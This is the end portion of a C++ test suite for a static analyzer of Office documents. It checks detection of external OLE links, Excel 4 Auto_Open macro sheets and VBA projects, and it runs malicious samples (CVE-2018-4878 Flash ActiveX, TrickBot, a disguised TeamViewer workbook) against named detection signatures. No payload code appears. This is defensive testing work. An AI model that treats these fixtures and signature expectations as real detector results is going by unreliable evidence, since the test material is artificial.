       std::filesystem::directory_iterator(kOletools + "oleobj/external_link")) {
    const std::string name = entry.path().filename().string();
    INFO(name);
    ++files;
    const OoxmlAnalysis analysis = Analyze(ReadCorpus(entry.path().string()), name);
    const auto details = Details(analysis.anomalies, "ooxml_external_ole_object");
    REQUIRE(details.size() == 1);
    CHECK(details[0].starts_with(base));
    CHECK(details[0].find(".doc (oleObject in ") != std::string::npos);
  }
  CHECK(files == 13);

  const OoxmlAnalysis docx =
      Analyze(ReadCorpus(kOletools + "oleobj/external_link/sample_with_external_link_to_doc.docx"),
              "x.docx");
  CHECK(Details(docx.anomalies, "ooxml_external_ole_object") ==
        std::vector<std::string>{
            base + "msodde/harmless-clean.doc (oleObject in word/_rels/document.xml.rels)"});
}

TEST_CASE("excel4_sample_macro.xlsm and .xlsb: the macro sheet Macro1 and _xlnm.Auto_Open") {
  const OoxmlAnalysis xlsm = Analyze(
      ReadCorpus(kOletools + "excel4-macros/excel4_sample_macro.xlsm"), "excel4_sample_macro.xlsm");
  CHECK(xlsm.info.macro_enabled());
  CHECK(std::vector<std::string>(xlsm.info.macro_sheet_parts().begin(),
                                 xlsm.info.macro_sheet_parts().end()) ==
        std::vector<std::string>{"xl/macrosheets/sheet1.xml"});
  REQUIRE(xlsm.info.sheets_size() == 2);
  CHECK(xlsm.info.sheets(0).name() == "Macro1");
  CHECK(xlsm.info.sheets(0).kind() == "macrosheet");
  REQUIRE(xlsm.info.auto_run_names_size() == 1);
  CHECK(xlsm.info.auto_run_names(0).name() == "_xlnm.Auto_Open");
  CHECK(xlsm.info.auto_run_names(0).value() == "Macro1!$A$1");

  const OoxmlAnalysis xlsb = Analyze(
      ReadCorpus(kOletools + "excel4-macros/excel4_sample_macro.xlsb"), "excel4_sample_macro.xlsb");
  CHECK(std::vector<std::string>(xlsb.info.macro_sheet_parts().begin(),
                                 xlsb.info.macro_sheet_parts().end()) ==
        std::vector<std::string>{"xl/macrosheets/sheet1.bin"});
  REQUIRE(xlsb.info.sheets_size() == 2);
  CHECK(xlsb.info.sheets(0).name() == "Macro1");
  CHECK(xlsb.info.sheets(0).kind() == "macrosheet");
  CHECK(xlsb.info.sheets(1).name() == "Sheet1");
  REQUIRE(xlsb.info.auto_run_names_size() == 1);
  CHECK(xlsb.info.auto_run_names(0).name() == "_xlnm.Auto_Open");
  // .xlsb carries a macro-enabled content type by design: no mismatch.
  CHECK(Details(xlsb.anomalies, "ooxml_macro_extension_mismatch").empty());

  auto result = Analyzer().Analyze(ReadCorpus(kOletools + "excel4-macros/excel4_sample_macro.xlsm"),
                                   "excel4_sample_macro.xlsm");
  REQUIRE(result.has_value());
  CHECK(FindSignature(*result, "ooxml_excel4_macro_sheet") != nullptr);
  CHECK(FindSignature(*result, "ooxml_excel4_auto_open") != nullptr);
}

TEST_CASE("oleform-PR314.docm: vbaProject.bin analyzed in place (result.office) and a child") {
  std::vector<ExtractedChild> children;
  const Bytes docm = ReadCorpus(kOletools + "oleform/oleform-PR314.docm");
  auto result = Analyzer().Analyze(docm, "oleform-PR314.docm", AnalyzeOptions{}, &children);
  REQUIRE(result.has_value());
  CHECK(result->ooxml().vba_project_part() == "word/vbaProject.bin");
  REQUIRE(children.size() == 1);
  CHECK(children[0].info.name() == "word/vbaProject.bin");
  CHECK(children[0].info.origin() == "ooxml vba project");
  CHECK(children[0].info.size() == 26112);
  // The same VBA modules as the vbaProject.bin child itself gives.
  auto office = AnalyzeOffice(children[0].data);
  REQUIRE(office.has_value());
  REQUIRE(result->office().vba_modules_size() == office->info.vba_modules_size());
  REQUIRE(result->office().vba_modules_size() > 0);
  for (int i = 0; i < office->info.vba_modules_size(); ++i) {
    CHECK(result->office().vba_modules(i).name() == office->info.vba_modules(i).name());
    CHECK(result->office().vba_modules(i).source() == office->info.vba_modules(i).source());
  }
  CHECK(FindSignature(*result, "vba_macros_present") != nullptr);
}

TEST_CASE("plaso's Document.docx: core and app properties") {
  const OoxmlAnalysis analysis = Analyze(
      ReadCorpus("../shared/corpora/plaso-test-data/test_data/Document.docx"), "Document.docx");
  const auto& properties = analysis.info.properties();
  CHECK(properties.creator() == "Nides");
  CHECK(properties.last_modified_by() == "Nides");
  CHECK(properties.revision() == "3");
  CHECK(properties.created() == "2012-11-07T23:29:00Z");
  CHECK(properties.modified() == "2013-08-25T22:18:00Z");
  CHECK(properties.template_() == "Normal.dotm");
  CHECK(properties.application() == "Microsoft Office Word");
  CHECK(Codes(analysis.anomalies).empty());
}

// ---------------------------------------------------------------------------------------------
// InQuest's malicious documents.

TEST_CASE("CVE-2018-4878 workbook: a Shockwave Flash ActiveX control, its binary as a child") {
  const Bytes xlsx =
      InquestMember("CVE-2018-4878-Adobe-Flash-DRM-UAF-0day.zip",
                    "/xlsx-14c58e3894258c54e12d52d0fba0aafa258222ce9223a1fdc8a946fd169d8a12");
  std::vector<ExtractedChild> children;
  auto result = Analyzer().Analyze(xlsx, "14c58e38.xlsx", AnalyzeOptions{}, &children);
  REQUIRE(result.has_value());
  REQUIRE(result->ooxml().activex_controls_size() == 1);
  CHECK(result->ooxml().activex_controls(0).part() == "xl/activeX/activeX1.xml");
  CHECK(result->ooxml().activex_controls(0).clsid() == "{D27CDB6E-AE6D-11CF-96B8-444553540000}");
  CHECK(result->ooxml().activex_controls(0).binary_part() == "xl/activeX/activeX1.bin");
  REQUIRE(children.size() == 1);
  CHECK(children[0].info.name() == "xl/activeX/activeX1.bin");
  CHECK(children[0].info.origin() == "ooxml activex");
  CHECK(children[0].info.size() == 117371);
  const auto* signature = FindSignature(*result, "ooxml_activex_exploit_clsid");
  REQUIRE(signature != nullptr);
  CHECK(signature->evidence(0).value() ==
        "xl/activeX/activeX1.xml: {D27CDB6E-AE6D-11CF-96B8-444553540000} Shockwave Flash Object "
        "(CVE-2018-4878, CVE-2018-15982)");
}

TEST_CASE("TrickBot .docm: its VBA gives the office signatures, as a .doc would") {
  const Bytes docm =
      InquestMember("2019-08-TrickBot.zip",
                    "/41cd7fec5eaad44d2dba028164b9b9e2d1c6ea9d035679651b3b344542c40d45.txt");
  std::vector<ExtractedChild> children;
  auto result = Analyzer().Analyze(docm, "41cd7fec.txt", AnalyzeOptions{}, &children);
  REQUIRE(result.has_value());
  CHECK(result->sample().file_type().format() == "ooxml");
  CHECK(result->ooxml().macro_enabled());
  CHECK(result->office().vba_modules_size() > 0);
  CHECK(FindSignature(*result, "vba_macros_present") != nullptr);
  CHECK(FindSignature(*result, "vba_auto_exec") != nullptr);
  REQUIRE(children.size() == 1);
  CHECK(children[0].info.origin() == "ooxml vba project");
}

TEST_CASE("TeamViewer workbook: the hidden sheet Лист1 and VBA in an .xlsx-looking package") {
  const Bytes xlsm =
      InquestMember("2019-04-TeamViewer.zip",
                    "/efe51c2453821310c7a34dca3054021d0f6d453b7133c381d75e3140901efd12");
  const OoxmlAnalysis analysis = Analyze(xlsm, "invoice.xlsx");
  CHECK(Details(analysis.anomalies, "ooxml_hidden_sheet") ==
        std::vector<std::string>{"Лист1 (worksheet)"});
  CHECK(analysis.info.vba_project_part() == "xl/vbaProject.bin");
  CHECK(
      Details(analysis.anomalies, "ooxml_macro_extension_mismatch") ==
      std::vector<std::string>{
          "invoice.xlsx: main content type application/vnd.ms-excel.sheet.macroEnabled.main+xml"});
  REQUIRE(analysis.vba.has_value());
  CHECK(analysis.vba->info.vba_modules_size() > 0);
}

}  // namespace
}  // namespace kensa::static_analysis
